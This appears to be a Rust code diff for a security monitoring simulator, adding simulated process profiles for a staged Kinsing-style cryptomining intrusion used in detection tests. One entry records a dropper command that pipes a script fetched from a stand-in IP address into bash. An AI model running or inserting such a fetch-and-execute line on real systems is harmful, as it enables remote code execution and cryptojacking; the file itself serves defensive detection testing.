@@ -730,6 +730,36 @@ pub(crate) const CRICTL: Exe = exe(
     prof(0.003, 0.4, 0.0, 30.0, 1280.0, 0.0, 0.0),
 );
 
+/// `multi_stage_attack`, stage 1: the Kinsing campaign's miner, dropped in /tmp by an exploited
+/// application and run from there (most of the node's CPU: the resource spike of stage 4).
+pub(crate) const KDEVTMPFSI: Exe = exe(
+    "/tmp/kdevtmpfsi",
+    "kdevtmpfsi",
+    "/tmp/kdevtmpfsi",
+    "",
+    ROOT,
+    prof(3.2, 0.02, 0.0, 2300.0, 2500.0, 0.0, 0.0),
+);
+/// `multi_stage_attack`, stage 2: the shell the miner's dropper runs (the application image's
+/// own `/bin/bash`, which nothing else on the node runs), working for a few minutes.
+pub(crate) const DROPPER_BASH: Exe = exe(
+    "/bin/bash",
+    "bash",
+    "bash",
+    "-c curl -s http://198.51.100.7/ki.sh | bash",
+    ROOT,
+    prof(0.02, 0.45, 0.0, 3.8, 8.2, 4.0, 0.5),
+);
+/// `multi_stage_attack`, stage 3: the campaign's agent, a process name never seen before.
+pub(crate) const KINSING: Exe = exe(
+    "/var/tmp/.ssh/kinsing",
+    "kinsing",
+    "/var/tmp/.ssh/kinsing",
+    "",
+    ROOT,
+    prof(0.01, 0.3, 0.0, 18.0, 720.0, 1.0, 0.0),
+);
+
 /// `kubectl exec -it <pod> -- bash`: an interactive shell that runs commands (CPU activity).
 pub(crate) const EXEC_BASH: Exe = exe(
     "/usr/bin/bash",
@@ -774,7 +804,10 @@ pub(crate) static EVIL_MINER: Workload = Workload {
 
 /// Paths that only scenarios (or their dedicated workload) may run.
 #[cfg(test)]
-pub(crate) const RESERVED: [&str; 9] = [
+pub(crate) const RESERVED: [&str; 12] = [
+    KDEVTMPFSI.path,
+    DROPPER_BASH.path,
+    KINSING.path,
     XMRIG.path,
     DEV_SHM_SH.path,
     TMP_PYTHON.path,
